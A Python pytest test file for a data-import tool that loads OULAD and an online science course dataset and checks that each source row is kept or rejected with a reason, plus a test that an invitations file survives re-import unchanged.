def imported(name: str, out: Path) -> tuple[pd.DataFrame, pd.DataFrame]:
    done = importing.bring_in(ROOT / f"params/imports/{name}.yml", out)
    rejected = pd.read_csv(out / "rejected.csv")
    summary = done.summary.set_index("table")
    assert (summary["read"] == summary.kept + summary.rejected).all()
    assert summary.rejected.to_dict() == {
        **dict.fromkeys(summary.index, 0),
        **rejected.table.value_counts().to_dict(),
    }
    assert summary.kept.to_dict() == {
        table: len(pd.read_parquet(out / f"{table}.parquet")) for table in summary.index
    }
    return summary, rejected


@pytest.mark.slow
def test_every_oulad_row_arrives_or_is_rejected_with_its_reason(shared, tmp_path):
    summary, rejected = imported("oulad", tmp_path / "oulad")
    assert summary["read"].to_dict() == {"people": 32_593, "reviews": 103_385, "learning": 70_527}
    scores = pd.read_parquet(shared / "oulad_core/student_assessment.parquet")
    assert summary["read"].reviews + summary["read"].learning == len(scores) == 173_912
    registered = pd.read_parquet(shared / "oulad_core/student_registration.parquet")
    reasons = (
        rejected.assign(kind=rejected.reason.str.replace(r": .*", "", regex=True))
        .groupby("table")
        .kind.value_counts()
    )
    assert reasons.people.get("hired_on is empty") == registered.date_registration.isna().sum()
    banked = (
        rejected.reason.str.startswith("carried over from an earlier course")
        .groupby(rejected.table)
        .sum()
    )
    assert banked.reviews + banked.learning == scores.is_banked.sum()
    assert reasons.groupby("table").sum().to_dict() == rejected.table.value_counts().to_dict()
    assert rejected.reason.str.len().min() > 10 and set(rejected.file) <= {
        "student.parquet",
        "student_assessment.parquet",
        "(query)",
    }


@pytest.mark.slow
def test_the_science_classes_are_mapped_as_they_were_answered(shared, tmp_path):
    mapping = ROOT / "params/imports/online_science.yml"
    rows = importing.source_rows(mapping, "acknowledgements")
    pairs = rows[["admitted_gap", "final_grade"]].apply(pd.to_numeric).dropna()
    assert len(pairs) == 461 and round(pairs.corr().iloc[0, 1], 3) == 0.117
    out = tmp_path / "science"
    _, rejected = imported("online_science", out)
    students = pd.read_csv(shared / "online_science/students.csv", na_values=["NA"])
    ids = students.student_id.astype(int).astype(str)
    assert set(pd.read_parquet(out / "acknowledgements.parquet").person_id) == set(
        ids[students.q7 <= 2]
    )
    assert set(pd.read_parquet(out / "people.parquet").person_id) == set(ids)
    reasons = {table: part.reason for table, part in rejected.groupby("table")}
    assert (
        (reasons["people"] == "another row has the same person_id, and came first").sum()
        == ids.duplicated().sum()
        > 0
    )
    missing = students.final_grade.isna() & students.q7.notna()
    assert reasons["reviews"].str.startswith("rating is empty").sum() == missing.sum() > 0
    unanswered = reasons["reviews"].str.startswith("survey item not answered")
    assert unanswered.sum() == students.q7.isna().sum() > 0


def test_the_shipped_mappings_are_read():
    for file in sorted((ROOT / "params/imports").glob("*.yml")):
        mapping = read_mapping(file)
        assert (
            json.loads(mapping.model_dump_json())["source"]
            == yaml.safe_load(file.read_text("utf-8"))["source"]
        )


# --- what no system exports


@pytest.mark.parametrize("suffix", ["csv", "parquet"])
def test_an_order_of_invitations_outlives_the_next_import(tmp_path, suffix):
    job = Job(tmp_path).write()
    assert not job.bring_in().notes
    rows = {"person_id": ["ana", "ben"], "about": "learning", "drawn_within": "ops"}
    order = pd.DataFrame(rows | {"invited_on": ["2024-01-01", "2029-01-01"]})
    file = job.out / f"invitations.{suffix}"
    order.to_csv(file, index=False) if suffix == "csv" else order.to_parquet(file)
    file.chmod(0o600)
    before = file.read_bytes()
    for _ in range(2):
        (note,) = job.bring_in().notes
        assert "invitations" in str(note) and f"{file.name} is kept as it was" in str(note)
        assert file.read_bytes() == before and file.stat().st_mode & 0o777 == 0o600
        assert reading.check(job.out) == ()
